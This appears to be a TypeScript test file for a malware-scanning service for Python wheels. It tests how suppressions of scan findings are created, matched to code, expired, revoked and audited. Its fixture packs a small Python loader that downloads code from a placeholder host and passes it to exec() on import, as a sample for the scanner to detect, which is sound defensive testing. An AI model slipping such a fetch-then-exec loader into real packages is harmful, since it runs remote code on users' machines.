import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { eq, sql } from 'drizzle-orm';
import { packWheel } from '../../../scripts/pack-example.ts';
import type { Finding, ScanResult } from '../../../src/contracts/result.ts';
import { submit } from '../../../src/jobs/submit.ts';
import { endSuppression, type SuppressionRequest, suppress } from '../../../src/review/suppressions.ts';
import { listAudit } from '../../../src/store/audit.ts';
import { verdicts } from '../../../src/store/schema.ts';
import { suppressions } from '../../../src/store/schema-review.ts';
import { listSuppressions, type SuppressionRow } from '../../../src/store/suppressions.ts';
import { documentOf } from '../../../src/store/verdicts.ts';
import { openTestService, stageBytes, type TestService } from '../../support/service.ts';

const FETCHER = `import urllib.request


def load():
    exec(urllib.request.urlopen('https://updates.invalid/x').read())


load()
`;
const RULES = ['execution/fetch-then-exec', 'network/reaches-out', 'profile/little-else'];

interface Written {
  project: string;
  version?: string;
  source?: string;
  /** File of the package that holds the source. */
  file?: string;
}

function wheel({ project, version = '1.0', source = FETCHER, file = '__init__.py' }: Written): Uint8Array {
  const info = `${project}-${version}.dist-info`;
  const files = {
    [`${project.replaceAll('-', '_')}/${file}`]: source,
    [`${info}/METADATA`]: `Metadata-Version: 2.1\nName: ${project}\nVersion: ${version}\n`,
    [`${info}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
  };
  return packWheel(Object.entries(files).map(([path, text]) => ({ path, bytes: Buffer.from(text) })));
}

describe('suppressions', () => {
  let service: TestService;
  let first: { sha256: string; result: ScanResult };
  before(async () => {
    service = await openTestService();
    first = await screened({ project: 'demo' });
  });
  after(() => service.close());

  const db = () => service.database.db;

  async function screened(
    written: Written,
    claimed: string | null = null,
  ): Promise<{ sha256: string; result: ScanResult }> {
    const staged = await stageBytes(service.vault, wheel(written));
    const filename = `${written.project}-${written.version ?? '1.0'}-py3-none-any.whl`;
    const claims = { uploader: null, url: null, project: claimed, version: null };
    await submit(service, staged, { filename, source: 'api', ...claims });
    const verdict = await service.verdicts.wait(staged.sha256, 120_000);
    return { sha256: staged.sha256, result: (await documentOf(db(), verdict!.id))! };
  }

  const fetches = ({ findings }: ScanResult): Finding => findings.find(({ rule }) => rule === RULES[0])!;
  const rulesOf = (findings: readonly Finding[] = []) => findings.map(({ rule }) => rule).sort();
  const requested = (part: Partial<SuppressionRequest> = {}): SuppressionRequest => ({
    sha256: first.sha256,
    rule: RULES[0]!,
    code: fetches(first.result).code!,
    reason: 'asks our own server',
    days: 90,
    owner: 'user:1',
    ...part,
  });
  const making = (part: Partial<SuppressionRequest> = {}): Promise<SuppressionRow> =>
    db().transaction((tx) => suppress(tx, requested(part)));
  const ending = (row: SuppressionRow) => db().transaction((tx) => endSuppression(tx, row, 'user:2'));

  it('takes a finding out of the score of the next release, and says so', async () => {
    assert.deepEqual(rulesOf(first.result.findings), RULES);
    assert.deepEqual(first.result.suppressed, []);
    const row = await making();
    const next = await screened({ project: 'demo', version: '1.1' });
    assert.deepEqual(rulesOf(next.result.findings), RULES.slice(1));
    assert.deepEqual(
      next.result.suppressed?.map(({ rule, contribution, suppression }) => [rule, contribution, suppression]),
      [
        [
          RULES[0],
          0,
          {
            id: row.id,
            rule: RULES[0],
            code: row.code,
            reason: 'asks our own server',
            owner: 'user:1',
            until: row.expiresAt.toISOString(),
          },
        ],
      ],
    );
    assert.ok(next.result.score < first.result.score);
    const rows = await db().select().from(verdicts).where(eq(verdicts.sha256, next.sha256));
    assert.deepEqual(
      rows.map(({ score }) => score),
      [next.result.score],
    );
    const days = (row.expiresAt.getTime() - row.createdAt.getTime()) / 86_400_000;
    assert.ok(days > 89.9 && days < 90.1, String(days));
    await ending(row);
  });

  it('leaves no finding when every one is suppressed', async () => {
    const rows: SuppressionRow[] = [];
    for (const { rule, code } of first.result.findings) rows.push(await making({ rule, code: code! }));
    const { result } = await screened({ project: 'Demo', version: '1.2' });
    assert.deepEqual([result.verdict, result.findings], ['no-findings', []]);
    assert.deepEqual(rulesOf(result.suppressed), RULES);
    for (const row of rows) await ending(row);
  });

  it('holds for the same code at another path, in either kind of line end', async () => {
    const row = await making();
    const cases: Written[] = [
      { project: 'demo', version: '2.0', file: 'elsewhere.py' },
      { project: 'demo', version: '2.1', source: FETCHER.replaceAll('\n', '\r\n') },
    ];
    for (const written of cases) {
      const { result } = await screened(written);
      assert.deepEqual(rulesOf(result.suppressed), [RULES[0]], written.version);
    }
    await ending(row);
  });

  it('does not hold for other code, another rule, another project, or a name that is only claimed', async () => {
    const row = await making();
    const cases: [Written, string | null][] = [
      [{ project: 'demo', version: '3.0', source: FETCHER.replace('updates', 'other') }, null],
      [{ project: 'demo', version: '3.1', source: FETCHER.replace('def load():', 'def load(*_):') }, null],
      [{ project: 'demo', version: '3.2', source: FETCHER.replace('\n\nload', '\n# x\nload') }, null],
      [{ project: 'another' }, null],
      [{ project: 'demo-extra' }, null],
      [{ project: 'demo', version: '3.3' }, 'another'],
    ];
    for (const [written, claimed] of cases) {
      const { result } = await screened(written, claimed);
      const name = `${written.project} ${written.version}`;
      assert.deepEqual([rulesOf(result.findings), result.suppressed], [RULES, []], name);
      assert.equal(result.score.toFixed(9), first.result.score.toFixed(9), name);
    }
    await ending(row);
  });

  it('ends when it expires or is revoked, by whom is written down', async () => {
    const expired = await making();
    await db()
      .update(suppressions)
      .set({ expiresAt: sql`now() - interval '1 second'` })
      .where(eq(suppressions.id, expired.id));
    assert.deepEqual((await screened({ project: 'demo', version: '4.0' })).result.suppressed, []);
    const revoked = await making();
    assert.equal(await ending(revoked), true);
    assert.equal(await ending(revoked), false);
    assert.deepEqual((await screened({ project: 'demo', version: '4.1' })).result.suppressed, []);
    assert.deepEqual(await listSuppressions(db(), { project: 'DEMO', active: true }), []);
    const [last] = await listSuppressions(db(), { active: false });
    assert.deepEqual([last?.id, last?.revokedBy, last?.project], [revoked.id, 'user:2', 'demo']);
    const entries = await listAudit(db(), { subject: 'demo' }, 2);
    assert.deepEqual(
      entries.map(({ actor, action, detail }) => [actor, action, detail.suppression]),
      [
        ['user:2', 'suppression.revoke', revoked.id],
        ['user:1', 'suppression.create', revoked.id],
      ],
    );
  });

  it('is made from a finding that is there, once', async () => {
    await assert.rejects(making({ code: 'f'.repeat(64) }), { code: 'not-found' });
    await assert.rejects(making({ rule: 'execution/decode-then-exec' }), { code: 'not-found' });
    const row = await making();
    await assert.rejects(making(), { code: 'claimed' });
    await ending(row);
  });
});
